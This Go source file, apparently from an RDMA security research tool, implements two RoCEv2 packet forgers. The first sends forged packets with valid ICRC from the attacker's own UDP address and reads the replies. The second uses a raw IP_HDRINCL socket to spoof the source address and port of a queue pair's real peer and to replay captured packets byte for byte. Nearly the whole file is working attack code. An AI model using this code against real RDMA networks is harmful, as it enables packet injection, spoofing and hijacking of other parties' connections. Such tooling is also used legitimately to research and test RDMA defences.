package attack

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"

	"github.com/ibex-rdma/ibex/wire"
)

// UDPForger sends forged RoCEv2 packets, each with a correct ICRC, from a UDP
// socket bound to an address of the attacker's own (not the QP's peer). It
// also reads what comes back to that address, which is how a forged
// requester sees its ACKs and NAKs.
type UDPForger struct {
	conn  *net.UDPConn
	local netip.AddrPort
	buf   []byte
}

// NewUDPForger binds local (port 4791 if zero, unless ephemeral) with DF
// set, so the kernel sends IPv4 ID 0 and the ICRC is computed for it, as
// provider/udp does.
func NewUDPForger(local netip.AddrPort, ephemeral bool) (*UDPForger, error) {
	if local.Port() == 0 && !ephemeral {
		local = netip.AddrPortFrom(local.Addr(), wire.UDPPort)
	}
	conn, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(local))
	if err != nil {
		return nil, fmt.Errorf("forger: %w", err)
	}
	raw, err := conn.SyscallConn()
	if err == nil {
		cerr := raw.Control(func(fd uintptr) {
			err = unix.SetsockoptInt(int(fd), unix.IPPROTO_IP, unix.IP_MTU_DISCOVER, unix.IP_PMTUDISC_DO)
		})
		if err == nil {
			err = cerr
		}
	}
	if err != nil {
		conn.Close()
		return nil, fmt.Errorf("forger: DF: %w", err)
	}
	return &UDPForger{conn: conn, local: conn.LocalAddr().(*net.UDPAddr).AddrPort()}, nil
}

// Local is the forger's address.
func (f *UDPForger) Local() netip.AddrPort { return f.local }

// Send encodes p with the ICRC of its path from the forger to dst and sends it.
func (f *UDPForger) Send(p *wire.Packet, dst netip.AddrPort) error {
	pre, err := wire.NewICRCPrefix(&wire.Encap{Src: f.local, Dst: dst, DF: true})
	if err != nil {
		return err
	}
	f.buf, err = wire.AppendIB(f.buf[:0], p, &pre)
	if err != nil {
		return err
	}
	_, err = f.conn.WriteToUDPAddrPort(f.buf, dst)
	return err
}

// Recv reads one RoCEv2 packet sent to the forger, or fails after timeout.
// The packet's payload aliases a buffer the next Recv reuses.
func (f *UDPForger) Recv(timeout time.Duration, p *wire.Packet) (netip.AddrPort, error) {
	buf := make([]byte, 1<<16)
	if err := f.conn.SetReadDeadline(time.Now().Add(timeout)); err != nil {
		return netip.AddrPort{}, err
	}
	n, from, err := f.conn.ReadFromUDPAddrPort(buf)
	if err != nil {
		return from, err
	}
	return from, wire.DecodeIB(buf[:n], p)
}

// Close closes the socket.
func (f *UDPForger) Close() error { return f.conn.Close() }

// RawForger sends IPv4 packets with headers of its choosing (a raw socket
// with IP_HDRINCL): forged packets with the source address and port of the
// QP's real peer, and captured packets replayed byte for byte. It needs
// CAP_NET_RAW.
type RawForger struct {
	fd  int
	buf []byte
	id  uint16
}

// NewRawForger opens the raw socket.
func NewRawForger() (*RawForger, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("raw forger: raw IPv4 socket (needs CAP_NET_RAW): %w", err)
	}
	return &RawForger{fd: fd, id: 0x4d1}, nil
}

// Spoof encodes p as sent from src to dst — the IP and UDP headers and the
// ICRC over them — and sends it.
func (f *RawForger) Spoof(p *wire.Packet, src, dst netip.AddrPort) error {
	if !src.Addr().Is4() || !dst.Addr().Is4() {
		return errors.New("raw forger: IPv4 only")
	}
	// A non-zero ID: the kernel fills in a zero one, after the ICRC
	// covered it.
	f.id++
	if f.id == 0 {
		f.id++
	}
	fr := wire.Frame{Encap: wire.Encap{Src: src, Dst: dst, ID: f.id, DF: true, TTL: 64}, Packet: *p}
	var err error
	f.buf, err = wire.AppendFrame(f.buf[:0], &fr)
	if err != nil {
		return err
	}
	p.ICRC = fr.Packet.ICRC
	return f.SendIP(f.buf[14:])
}

// SendIP sends a whole IPv4 packet as it is (a replay) but for its UDP
// checksum, which it clears: a packet captured on the host that sent it
// carries the partial sum of checksum offload, which the receiving stack
// would drop, while 0 means "none" (rxe sends 0; the ICRC masks the field,
// so the RoCE packet is the same).
func (f *RawForger) SendIP(ip []byte) error {
	if len(ip) < 28 {
		return errors.New("raw forger: short packet")
	}
	ihl := int(ip[0]&0xf) * 4
	if ip[9] == unix.IPPROTO_UDP && len(ip) >= ihl+8 {
		ip = append([]byte(nil), ip...)
		ip[ihl+6], ip[ihl+7] = 0, 0
	}
	to := &unix.SockaddrInet4{Addr: [4]byte(ip[16:20])}
	return unix.Sendto(f.fd, ip, 0, to)
}

// Close closes the socket.
func (f *RawForger) Close() error { return unix.Close(f.fd) }
